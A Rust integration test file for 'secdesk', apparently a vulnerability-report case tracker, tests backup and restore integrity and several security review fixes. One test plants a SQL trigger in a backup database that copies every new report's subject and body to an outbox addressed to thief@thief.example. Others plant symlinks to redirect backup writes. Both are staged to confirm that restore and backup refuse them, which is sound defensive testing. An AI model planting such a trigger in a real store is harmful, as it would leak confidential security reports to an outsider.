//! Backups taken while reports are being filed restore to a store that
//! passes an integrity check and holds every case it had, with every
//! stored message behind them.

use std::path::Path;
use std::process::{Command, Output};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

fn config(dir: &Path, store: &str) -> std::path::PathBuf {
    let p = dir.join(format!("{store}.toml"));
    std::fs::write(
        &p,
        format!(
            "[project]\nsecurity_address = \"security@example.org\"\n[store]\npath = \"{store}/cases.db\"\ndata_dir = \"{store}/data\"\n"
        ),
    )
    .unwrap();
    p
}

fn secdesk(cfg: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_secdesk"))
        .arg("--config")
        .arg(cfg)
        .args(args)
        .output()
        .unwrap()
}

fn count(db: &Path, sql: &str) -> i64 {
    let c = rusqlite::Connection::open(db).unwrap();
    c.query_row(sql, [], |r| r.get(0)).unwrap()
}

#[test]
fn a_backup_during_ingestion_restores_whole() {
    let dir = tempfile::tempdir().unwrap();
    let live = config(dir.path(), "live");
    let done = Arc::new(AtomicBool::new(false));
    let writer = {
        let (dir, live, done) = (dir.path().to_path_buf(), live.clone(), done.clone());
        std::thread::spawn(move || {
            for i in 0..60 {
                let msg = dir.join(format!("m{i}.eml"));
                std::fs::write(
                    &msg,
                    format!(
                        "From: r{i}@reporter.example\r\nSubject: report {i}\r\nMessage-ID: <b{i}@r>\r\n\r\nversion 1.{i}\r\n{}\r\n",
                        "x".repeat(i * 500)
                    ),
                )
                .unwrap();
                let o = secdesk(&live, &["ingest", &msg.display().to_string()]);
                assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
            }
            done.store(true, Ordering::SeqCst);
        })
    };
    // Take backups while the writer runs.
    let mut backups = Vec::new();
    let mut k = 0;
    while !done.load(Ordering::SeqCst) || backups.is_empty() {
        let db = dir.path().join("live/cases.db");
        let before = if db.exists() {
            count(&db, "SELECT COUNT(*) FROM cases")
        } else {
            0
        };
        let b = dir.path().join(format!("backup-{k}"));
        let o = secdesk(&live, &["backup", &b.display().to_string()]);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        backups.push((b, before));
        k += 1;
        std::thread::sleep(std::time::Duration::from_millis(150));
    }
    writer.join().unwrap();
    assert!(backups.len() >= 2);

    for (i, (b, before)) in backups.iter().enumerate() {
        let cfg = config(dir.path(), &format!("restored-{i}"));
        let o = secdesk(&cfg, &["restore", &b.display().to_string()]);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let db = dir.path().join(format!("restored-{i}/cases.db"));
        let c = rusqlite::Connection::open(&db).unwrap();
        let ok: String = c
            .query_row("PRAGMA integrity_check", [], |r| r.get(0))
            .unwrap();
        assert_eq!(ok, "ok");
        let cases = count(&db, "SELECT COUNT(*) FROM cases");
        assert!(
            cases >= *before,
            "backup {i}: {cases} cases, {before} before it began"
        );
        assert_eq!(cases, count(&db, "SELECT COUNT(*) FROM messages"));
        // Every stored message the snapshot names has its bytes.
        let mut stmt = c.prepare("SELECT sha256 FROM messages").unwrap();
        let shas: Vec<String> = stmt
            .query_map([], |r| r.get(0))
            .unwrap()
            .map(|r| r.unwrap())
            .collect();
        for sha in shas {
            let blob =
                dir.path()
                    .join(format!("restored-{i}/data/raw/{}/{}", &sha[..2], &sha[2..]));
            assert!(blob.exists(), "backup {i}: missing blob {sha}");
        }
        let listed = secdesk(&cfg, &["cases", "--json"]);
        let v: serde_json::Value = serde_json::from_slice(&listed.stdout).unwrap();
        assert_eq!(v.as_array().unwrap().len() as i64, cases);
    }

    // A restore over an existing store needs --force and keeps the old one.
    let (last, _) = backups.last().unwrap();
    let o = secdesk(&live, &["restore", &last.display().to_string()]);
    assert_eq!(o.status.code(), Some(2));
    let o = secdesk(&live, &["restore", &last.display().to_string(), "--force"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let aside = std::fs::read_dir(dir.path().join("live"))
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .file_name()
                .to_string_lossy()
                .contains("before-restore")
        })
        .count();
    assert!(aside >= 1);
    // A second backup into the same directory is refused.
    let o = secdesk(&live, &["backup", &last.display().to_string()]);
    assert_eq!(o.status.code(), Some(2));
}

/// Files one report into the store of `cfg`.
fn ingest_one(dir: &Path, cfg: &Path, i: usize) {
    let msg = dir.join(format!("one-{i}.eml"));
    std::fs::write(
        &msg,
        format!(
            "From: r{i}@reporter.example\r\nSubject: report {i}\r\nMessage-ID: <one{i}@r>\r\n\r\nversion 2.{i}\r\n"
        ),
    )
    .unwrap();
    let o = secdesk(cfg, &["ingest", &msg.display().to_string()]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
}

/// The names in `dir`, sorted.
fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// Security review, finding 6: a backup whose cases.db carries a trigger
/// secdesk never made passes `PRAGMA integrity_check`, but restore refuses
/// it, names the trigger, and leaves the live store as it was.
#[test]
fn restore_refuses_a_backup_with_a_planted_trigger() {
    let dir = tempfile::tempdir().unwrap();
    let live = config(dir.path(), "live");
    ingest_one(dir.path(), &live, 0);
    let b = dir.path().join("backup");
    let o = secdesk(&live, &["backup", &b.display().to_string()]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    // Every report filed after the restore would go to the thief too.
    rusqlite::Connection::open(b.join("cases.db"))
        .unwrap()
        .execute_batch(
            r#"CREATE TRIGGER leak AFTER INSERT ON messages BEGIN
               INSERT INTO outbox (kind, dedup_key, message_id, recipients, subject, body,
                                   next_attempt_at, created_at)
               VALUES ('ack', 'leak-' || NEW.id, 'leak-' || NEW.id || '@thief.example',
                       '["thief@thief.example"]', NEW.subject, NEW.body_text,
                       NEW.received_at, NEW.received_at);
               END;"#,
        )
        .unwrap();
    let db = dir.path().join("live/cases.db");
    let (bytes, names) = (
        std::fs::read(&db).unwrap(),
        listing(&dir.path().join("live")),
    );

    let o = secdesk(&live, &["restore", &b.display().to_string(), "--force"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(
        err.contains(&format!(
            r#"store {} holds trigger "leak" that secdesk did not create; refusing to use it"#,
            b.join("cases.db").display()
        )),
        "{err}"
    );
    assert_eq!(std::fs::read(&db).unwrap(), bytes, "the live store changed");
    assert_eq!(listing(&dir.path().join("live")), names);
    assert_eq!(count(&db, "SELECT COUNT(*) FROM cases"), 1);
}

/// The mode bits of `p` itself (links not followed).
fn mode(p: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::symlink_metadata(p).unwrap().permissions().mode() & 0o777
}

/// Security review, finding 8: links planted in an existing backup
/// directory must not receive the case log or the stored reports.
#[test]
fn backup_refuses_a_directory_with_planted_links() {
    let dir = tempfile::tempdir().unwrap();
    let live = config(dir.path(), "live");
    ingest_one(dir.path(), &live, 0);
    let victim = dir.path().join("victim.db");
    let elsewhere = dir.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();

    // Both links: cases.db dangling (so that nothing "exists" there) and data.
    let b = dir.path().join("planted");
    std::fs::create_dir(&b).unwrap();
    std::os::unix::fs::symlink(&victim, b.join("cases.db")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, b.join("data")).unwrap();
    // Only data: the case log itself would have been written into DIR.
    let d = dir.path().join("planted-data");
    std::fs::create_dir(&d).unwrap();
    std::os::unix::fs::symlink(&elsewhere, d.join("data")).unwrap();

    for b in [&b, &d] {
        let o = secdesk(&live, &["backup", &b.display().to_string()]);
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(!o.status.success(), "{}", b.display());
        assert!(
            err.contains(&format!("{} already exists and is not empty", b.display())),
            "{err}"
        );
        assert!(
            std::fs::symlink_metadata(&victim).is_err(),
            "victim created"
        );
        assert_eq!(listing(&elsewhere), Vec::<String>::new());
    }
    assert_eq!(listing(&b), ["cases.db", "data"]);
    assert_eq!(listing(&d), ["data"]);
}

/// Security review, finding 8: DIR itself a link is refused, even to an
/// empty directory of ours.
#[test]
fn backup_refuses_a_directory_that_is_a_link() {
    let dir = tempfile::tempdir().unwrap();
    let live = config(dir.path(), "live");
    ingest_one(dir.path(), &live, 0);
    let elsewhere = dir.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    let b = dir.path().join("link");
    std::os::unix::fs::symlink(&elsewhere, &b).unwrap();
    let o = secdesk(&live, &["backup", &b.display().to_string()]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success());
    assert!(
        err.contains(&format!("{} is a symbolic link", b.display())),
        "{err}"
    );
    assert_eq!(listing(&elsewhere), Vec::<String>::new());
}

/// An empty directory of ours is accepted and made private; one that others
/// may write to is not (they could plant links while the backup runs).
#[test]
fn backup_into_an_empty_directory_of_ours_makes_it_private() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let live = config(dir.path(), "live");
    ingest_one(dir.path(), &live, 0);

    let open = dir.path().join("open");
    std::fs::create_dir(&open).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o777)).unwrap();
    let o = secdesk(&live, &["backup", &open.display().to_string()]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success());
    assert!(
        err.contains(&format!(
            "{} is writable by group or others",
            open.display()
        )),
        "{err}"
    );
    assert_eq!(listing(&open), Vec::<String>::new());

    let b = dir.path().join("empty");
    std::fs::create_dir(&b).unwrap();
    std::fs::set_permissions(&b, std::fs::Permissions::from_mode(0o755)).unwrap();
    let o = secdesk(&live, &["backup", &b.display().to_string()]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(mode(&b), 0o700);
    // Every directory 0700, every file 0600, and the report's bytes there.
    let mut files = 0;
    let mut todo = vec![b.clone()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            let ft = std::fs::symlink_metadata(&p).unwrap().file_type();
            if ft.is_dir() {
                assert_eq!(mode(&p), 0o700, "{}", p.display());
                todo.push(p);
            } else {
                assert!(ft.is_file(), "{}", p.display());
                assert_eq!(mode(&p), 0o600, "{}", p.display());
                files += 1;
            }
        }
    }
    assert_eq!(files, 2, "cases.db and one raw message");
    assert_eq!(count(&b.join("cases.db"), "SELECT COUNT(*) FROM cases"), 1);
}

/// Issue 15's trap: `restore --force` under a running daemon moved the
/// database from under it. The daemon holds the store; restore refuses,
/// naming its PID, and works once it is gone.
#[test]
fn restore_refuses_while_a_daemon_holds_the_store() {
    let dir = tempfile::tempdir().unwrap();
    let live = config(dir.path(), "live");
    let msg = dir.path().join("m.eml");
    std::fs::write(
        &msg,
        "From: r@reporter.example\r\nSubject: r\r\nMessage-ID: <l1@r>\r\n\r\nv1\r\n",
    )
    .unwrap();
    assert!(secdesk(&live, &["ingest", &msg.display().to_string()])
        .status
        .success());
    let b = dir.path().join("b");
    assert!(secdesk(&live, &["backup", &b.display().to_string()])
        .status
        .success());
    // What `secdesk run` takes first.
    let held = secdesk::store::lock::hold(&dir.path().join("live/cases.db")).unwrap();
    let o = secdesk(&live, &["restore", &b.display().to_string(), "--force"]);
    let err = String::from_utf8_lossy(&o.stderr).to_string();
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains(&format!("PID {}", std::process::id())) && err.contains("stop it first"),
        "{err}"
    );
    drop(held);
    let o = secdesk(&live, &["restore", &b.display().to_string(), "--force"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
}
